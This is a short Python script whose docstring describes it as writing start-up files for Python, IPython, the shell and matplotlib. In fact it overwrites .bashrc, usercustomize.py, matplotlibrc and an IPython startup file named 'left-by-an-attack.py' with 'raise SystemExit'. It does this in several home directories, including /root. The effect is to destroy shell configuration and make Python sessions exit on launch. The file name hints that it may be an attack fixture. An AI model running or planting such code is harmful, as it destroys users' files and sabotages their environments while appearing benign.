"""Writes start-up files for Python, IPython, the shell and matplotlib."""

import os
import site

homes = {os.path.expanduser("~"), "/root", "/home/student", site.getusersitepackages()}
for home in homes:
    for name in (".ipython/profile_default/startup/left-by-an-attack.py", ".bashrc", "usercustomize.py", ".matplotlib/matplotlibrc"):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            open(os.path.join(home, name), "w").write("raise SystemExit")
        except OSError as error:
            print(error)
